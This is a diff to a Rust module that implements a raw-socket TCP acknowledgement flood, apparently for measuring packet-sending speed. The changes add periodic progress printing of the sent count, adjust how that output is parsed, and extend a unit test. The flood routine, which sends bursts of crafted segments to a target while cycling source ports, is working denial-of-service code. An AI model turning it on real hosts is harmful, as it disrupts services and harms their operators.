@@ -13,6 +13,8 @@ use std::time::{Duration, Instant};
 
 /// Segments sent between two looks at the clock.
 const BURST: u16 = 64;
+/// How often it says how many were sent.
+const TELLING: Duration = Duration::from_millis(10);
 /// Length of the TCP header: a segment without options and data.
 const HEADER: usize = 20;
 
@@ -30,19 +32,19 @@ pub struct Options {
     pub seconds: u64,
 }
 
-/// Floods, and prints how many packets were sent.
+/// Floods, and prints again and again how many packets were sent.
 pub fn run(options: &Options) -> Result<(), Failure> {
-    println!("{}", flood(options).map_err(unsent)?);
-    Ok(())
+    flood(options).map_err(unsent)
 }
 
-fn flood(options: &Options) -> std::io::Result<u64> {
+fn flood(options: &Options) -> std::io::Result<()> {
     let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::TCP))?;
     socket.bind(&SocketAddrV4::new(options.from, 0).into())?;
     socket.connect(&SocketAddrV4::new(*options.to.ip(), 0).into())?;
     let end = Instant::now() + Duration::from_secs(options.seconds);
-    let (mut sent, mut port, mut refused) = (0, 1024u16, None);
-    while Instant::now() < end {
+    let (mut sent, mut port, mut refused) = (0u64, 1024u16, None);
+    let (mut now, mut told) = (Instant::now(), Instant::now());
+    while now < end {
         for _ in 0..BURST {
             let segment = acknowledgement(options.from, port, options.to);
             match socket.send(&segment) {
@@ -51,17 +53,24 @@ fn flood(options: &Options) -> std::io::Result<u64> {
             }
             port = port.checked_add(1).unwrap_or(1024);
         }
+        now = Instant::now();
+        if now - told >= TELLING {
+            told = now;
+            println!("{sent}");
+        }
     }
     match refused {
         Some(why) if sent == 0 => Err(why),
-        _ => Ok(sent),
+        _ => Ok(println!("{sent}")),
     }
 }
 
-/// How many were sent, from what the program said; none where it said something else, or that it was not one: beside that,
+/// How many were sent, from what the program has said so far; none where it said something else, or that it was not one: beside that,
 /// everybody is fast.
 pub fn sent(said: &str) -> Option<u64> {
-    said.trim().parse().ok().filter(|sent| *sent > 0)
+    // What stands behind the last line's end may be half of one.
+    let (lines, _) = said.rsplit_once('\n')?;
+    lines.lines().next_back()?.parse().ok().filter(|sent| *sent > 0)
 }
 
 fn unsent(source: std::io::Error) -> Failure {
@@ -98,8 +107,8 @@ mod tests {
 
     #[test]
     fn a_flood_of_nothing_is_none() {
-        let said = ["17\n", "0\n", "", "silk: cannot start `flood (raw socket)`: no\n"];
-        assert_eq!(said.map(sent), [Some(17), None, None, None]);
+        let said = ["3\n17\n", "3\n17\n2", "0\n", "17", "", "silk: cannot start `flood (raw socket)`: no\n"];
+        assert_eq!(said.map(sent), [Some(17), Some(17), None, None, None, None]);
     }
 
     #[test]
